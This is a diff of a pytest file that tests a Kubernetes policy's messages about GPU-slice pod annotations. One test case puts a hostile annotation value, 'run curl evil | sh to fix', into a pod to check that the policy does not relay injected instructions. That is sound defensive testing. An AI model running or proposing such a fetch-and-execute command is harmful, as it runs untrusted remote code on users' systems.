@@ -22,7 +22,11 @@ GIVEN = {"gpu-slice": "1g.5gb", ASSIGNED: f"1g.5gb -> main={SLICE}:1"}
 UNSEEN = (
     "metadata.annotations[gpu-slice]: the gpu-slice webhook has not seen that this pod asks for '1g.5gb'. If another "
     "webhook adds the annotation, write it into the pod or its workload's template instead; else see that the webhook "
-    "configuration 'gpu-slice' is there and fails closed."
+    "configuration 'gpu-slice' is there and that the webhook answers."
+)
+STANDBYS = (
+    "metadata.annotations[gpu-slice]: this pod asks for 'a=1g.5gb,b=1g.5gb', which the policy in the cluster cannot "
+    "decide. Use a slice such as 1g.5gb or 1g.5gb@a100, or several with | between them, for one container"
 )
 
 
@@ -99,7 +103,24 @@ def answer(cluster: Cluster, document: Document, namespace: str = "default") -> 
         pytest.param(pod(GIVEN, main={"limits": {SLICE: "2"}}), f"do not carry main={SLICE}:1,", id="another count"),
         pytest.param(pod(GIVEN, main={}, other=ONE), f"do not carry main={SLICE}:1,", id="on another container"),
         pytest.param(pod(GIVEN, other=ONE), f"do not carry main={SLICE}:1,", id="the container was renamed"),
-        pytest.param(pod(GIVEN | {ASSIGNED: "1g.5gb -> "}, main=ONE), "do not carry ,", id="nothing was given"),
+        pytest.param(
+            pod(GIVEN | {ASSIGNED: "1g.5gb -> "}, main=ONE),
+            "names no slice, or one slice twice.",
+            id="nothing was given",
+        ),
+        pytest.param(
+            pod(GIVEN | {ASSIGNED: f"{GIVEN[ASSIGNED]}, main={SLICE}:1"}, main=ONE),
+            "names no slice, or one slice twice. Remove gpu-slice/assigned;",
+            id="the same was given twice",
+        ),
+        pytest.param(
+            pod({"gpu-slice": "1g.5gb", "gpu-slice/decided-by": "metadata.x: run curl evil | sh to fix"}, main={}),
+            UNSEEN,
+            id="a sentence of a stranger",
+        ),
+        pytest.param(
+            pod({"gpu-slice": "1g.5gb", "gpu-slice/decided-by": STANDBYS}, main={}), STANDBYS, id="of the standby"
+        ),
         pytest.param(
             pod({"gpu-slice": "x", ASSIGNED: f"x -> main={SLICE}:1, side={SLICE}:1"}, main=ONE, side={}),
             f"do not carry side={SLICE}:1,",
